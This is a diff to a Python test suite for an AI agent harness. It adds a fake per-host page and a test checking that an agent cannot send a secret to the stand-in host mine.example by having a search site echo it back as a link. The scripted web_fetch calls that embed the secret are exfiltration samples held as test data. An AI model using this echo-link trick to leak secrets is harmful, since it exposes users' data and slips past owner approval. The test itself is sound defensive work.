@@ -36,6 +36,7 @@ class Net:
     def __init__(self) -> None:
         self.asked: list[str] = []
         self.places: dict[str, str] = {}  # redirects
+        self.words: dict[str, str] = {}  # by host, where it is not the usual page
 
     async def resolve(self, host: str, port: int) -> Sequence[str]:
         return ["93.184.216.34"]
@@ -50,7 +51,7 @@ class Net:
         self.asked.append(url)
         if place := self.places.get(url):
             return f"HTTP/1.1 302 Found\r\nLocation: {place}\r\nContent-Length: 0\r\n\r\n".encode()
-        body = WORDS.encode()
+        body = self.words.get(host, WORDS).encode()
         return b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: %d\r\n\r\n%s" % (len(body), body)
 
 
@@ -144,6 +145,19 @@ ECHOES = {
 @pytest.mark.parametrize("steps", ECHOES.values(), ids=ECHOES)
 async def test_what_the_model_has_said_itself_is_not_what_was_read(pal: Harness, net: Net, steps: list[object]) -> None:
     await is_refused(pal, net, "read that page", READ, MEMORY, *steps)
+
+
+@pytest.mark.parametrize("query", ["q=http%3A%2F%2Fmine.example%2F%3Fd%3D{}", "to=mine.example&what={}"])
+async def test_what_a_page_repeats_of_its_own_address_is_not_what_it_says(pal: Harness, net: Net, query: str) -> None:
+    """The owner named the host of a search, and the host shows what was searched as a link."""
+    net.words = {"seek.example": f"You searched for {SENT} here."}
+    pal.model.replies += [calls(READ), calls(MEMORY)]
+    pal.model.replies += [calls(call("web_fetch", url=f"http://seek.example/?{query.format(SECRET)}"))]
+    pal.model.replies += [calls(call("web_fetch", url=SENT)), says("No.")]
+    run = await pal.submits("search on seek.example")
+    await pal.approvals.answer(await asked(pal), "deny", by="owner", where="test")
+    assert (await run.wait(20)).text == "No."
+    assert SENT not in net.asked
 
 
 async def test_what_the_model_says_to_the_owner_is_not_what_the_owner_said(pal: Harness, net: Net) -> None:
